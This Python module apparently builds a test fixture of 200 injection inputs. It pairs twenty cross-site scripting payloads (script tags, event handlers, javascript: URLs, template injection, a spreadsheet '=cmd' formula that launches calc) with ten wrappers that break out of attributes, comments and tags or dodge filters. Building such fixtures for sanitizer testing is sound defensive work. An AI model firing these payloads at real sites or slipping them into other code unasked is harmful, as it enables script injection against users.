"""Two hundred texts that would run a script where they are taken for markup: in text, attributes, URLs, JSON, CSV.

Each calls `alert`, which a browser tells; `=cmd|…` is what spreadsheets run.
"""

from __future__ import annotations

from collections.abc import Callable

# One for each way out of a place where a text can stand, and for each way in.
_CORES = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<video><source onerror=alert(1)></video>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<object data='data:text/html,<script>parent.alert(1)</script>'></object>",
    "<style>@import'javascript:alert(1)';</style><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template><img src=x onerror=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}",
    "{% print(1) %}${alert(1)}#{alert(1)}",
    "javascript:alert(1)//",
    "\u2028alert(1)\u2029<img src=x onerror=alert(1)>",
    "=cmd|'/c calc'!A1\"><img src=x onerror=alert(1)>",
)
_DRESSES: tuple[Callable[[str], str], ...] = (
    lambda core: core,
    lambda core: f'">{core}',
    lambda core: f"'>{core}",
    lambda core: f"</title></textarea></style></script>{core}",
    lambda core: f"-->{core}<!--",
    lambda core: f']]>"}}];{core}',
    lambda core: core.replace("script", "ScRiPt").replace("on", "oN") + "<BR>",
    lambda core: f'" autofocus onfocus=alert(1) x="{core}',
    lambda core: core.replace("<", "&lt;<").replace(" ", "/") + "&#60;b&#62;",
    lambda core: f"mandat\t{core}\n« {core} »",
)
PAYLOADS = tuple(dress(core) for core in _CORES for dress in _DRESSES)
